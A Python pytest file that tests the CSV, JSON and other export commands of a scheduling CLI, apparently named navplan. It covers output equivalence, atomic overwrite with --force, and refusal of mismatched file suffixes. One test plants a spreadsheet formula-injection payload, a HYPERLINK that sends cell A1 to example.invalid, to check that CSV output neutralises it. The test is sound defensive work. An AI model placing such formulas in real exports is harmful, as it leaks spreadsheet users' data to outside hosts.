"""navplan export csv|json, and what every export shares: one atomic write that
replaces an existing file only with --force."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import copy_of_indre_ostfold, run_navplan
from navplan.render.schedule_json_csv import ActivityRecord, ScheduleDocument

AS_OF = "10.12.2018"
EXPORTS = {"xlsx": "plan.xlsx", "ics": "plan.ics", "csv": "plan.csv", "json": "plan.json"}


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    return copy_of_indre_ostfold(tmp_path / "kontor")


def printed(*args: str) -> str:
    result = run_navplan(*args)
    assert result.exit_code == 0, result.stderr
    return result.stdout


def written(kind: str, plan: Path, output: Path, *options: str) -> str:
    result = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF, *options)
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "" and str(output) in result.stderr
    return output.read_text(encoding="utf-8")


@pytest.mark.parametrize("lang", ["nb", "en"])
def test_json_is_the_document_critical_path_prints(plan, tmp_path, lang):
    text = written("json", plan, tmp_path / "plan.json", "--lang", lang, "--weeks", "8")
    exported = json.loads(text)
    assert exported == json.loads(printed("critical-path", plan, "--as-of", AS_OF, "-f", "json", "--lang", lang,
                                          "--weeks", "8"))
    ScheduleDocument.model_validate(exported)  # the documented schema
    assert exported["office"] == "NAV Indre Østfold" and exported["as_of"] == "2018-12-10"
    assert exported["must_start"] != json.loads(
        printed("critical-path", plan, "--as-of", AS_OF, "-f", "json", "--weeks", "0"))["must_start"]


def test_csv_is_the_rows_critical_path_prints(plan, tmp_path):
    text = written("csv", plan, tmp_path / "plan.csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == list(csv.DictReader(io.StringIO(printed("critical-path", plan, "--as-of", AS_OF, "-f", "csv"))))
    assert list(rows[0]) == list(ActivityRecord.model_fields)
    doc = json.loads(printed("critical-path", plan, "--as-of", AS_OF, "-f", "json"))
    assert [row["id"] for row in rows] == [a["id"] for a in doc["activities"]]
    by_id = {row["id"]: row for row in rows}
    for activity in doc["activities"]:
        assert by_id[activity["id"]]["latest_finish"] == activity["latest_finish"]
        assert by_id[activity["id"]]["slack"] == ("" if activity["slack"] is None else str(activity["slack"]))


def test_a_title_that_is_a_formula_stays_text_in_the_csv(plan, tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?x="&A1, "klikk"), og; mer linje'
    with plan.open("a", encoding="utf-8") as stream:
        stream.write(f"""\
  - id: "L1"
    title: {json.dumps(formula)}
    parent: "4"
    duration: 5d
    after: ["4.1"]
    owner: "+47 123"
""")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(written("csv", plan, tmp_path / "plan.csv")))}
    assert rows["L1"]["title"] == "'" + formula
    assert rows["L1"]["owner"] == "'+47 123"
    assert all(not str(cell).startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())


@pytest.mark.parametrize("kind", EXPORTS)
def test_every_export_refuses_an_existing_file_without_force(plan, tmp_path, kind):
    output = tmp_path / EXPORTS[kind]
    output.write_bytes(b"mine\n")
    refused = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF)
    assert refused.exit_code == 2
    assert "finnes allerede" in refused.stderr and "--force" in refused.stderr and str(output) in refused.stderr
    assert output.read_bytes() == b"mine\n"
    forced = run_navplan("export", kind, plan, "-o", output, "--as-of", AS_OF, "--force")
    assert forced.exit_code == 0, forced.stderr
    assert output.read_bytes() != b"mine\n"
    # Written through a temporary file beside it, renamed over it: nothing else is left behind.
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["kontor", output.name])


@pytest.mark.parametrize("kind", EXPORTS)
def test_a_plan_that_does_not_load_writes_nothing(tmp_path, kind):
    bad = tmp_path / "navplan.yaml"
    bad.write_text("navplan: 1\noffice: NAV X\nopening: 31.02.2020\n", encoding="utf-8")
    output = tmp_path / EXPORTS[kind]
    result = run_navplan("export", kind, bad, "-o", output, "--as-of", AS_OF)
    assert result.exit_code == 2 and "opening" in result.stderr
    assert not output.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["navplan.yaml"]


@pytest.mark.parametrize("kind, output, other", [("ods", "plan.xlsx", "xlsx"), ("xlsx", "plan.ODS", "ods"),
                                                 ("csv", "plan.json", "json"), ("ics", "plan.xml", "mspdi")])
def test_an_export_named_as_another_format_is_refused(plan, tmp_path, kind, output, other):
    """`navplan export ods -o plan.xlsx` wrote an OpenDocument file named .xlsx, which Excel
    refuses to open ("the file format or file extension is not valid"); each export now writes
    only its own kind under another format's name, and says which command writes that one."""
    target = tmp_path / output
    refused = run_navplan("export", kind, plan, "-o", target, "--as-of", AS_OF)
    assert refused.exit_code == 2, refused.stderr
    assert refused.stderr.startswith(f"navplan: {target}: ")
    assert f"`navplan export {other}`" in refused.stderr
    assert not target.exists()
    plain = run_navplan("export", kind, plan, "-o", tmp_path / "plan.txt", "--as-of", AS_OF)
    assert plain.exit_code == 0, plain.stderr  # a name of no format of navplan's is the reader's choice


def test_an_empty_output_name_is_said_to_be_empty(plan):
    """`-o ""` was called "a folder name" with the hint "e.g. FILE"."""
    result = run_navplan("export", "csv", plan, "-o", "", "--as-of", AS_OF)
    assert result.exit_code == 2
    assert result.stderr == "navplan: --output: kan ikke være tom (oppgi en fil, f.eks. -o plan.csv)\n"


def test_every_export_refuses_a_file_named_as_the_next_format(plan, tmp_path) -> None:
    """The suffixes come from the export table: each format refuses the next one's suffix (the last,
    the first's) and names the command that writes it."""
    from navplan.cli.export_commands import EXPORTS

    names = [export.name for export in EXPORTS]
    assert {"xlsx", "ods", "ics", "csv", "json", "mspdi"} <= set(names)  # none lost from the table
    for export, other in zip(EXPORTS, [*EXPORTS[1:], EXPORTS[0]], strict=True):
        target = tmp_path / f"ut{other.suffix}"
        refused = run_navplan("export", export.name, plan, "-o", target, "--as-of", AS_OF)
        assert refused.exit_code == 2, refused.stderr
        assert f"`navplan export {other.name}`" in refused.stderr, refused.stderr
        assert not target.exists()
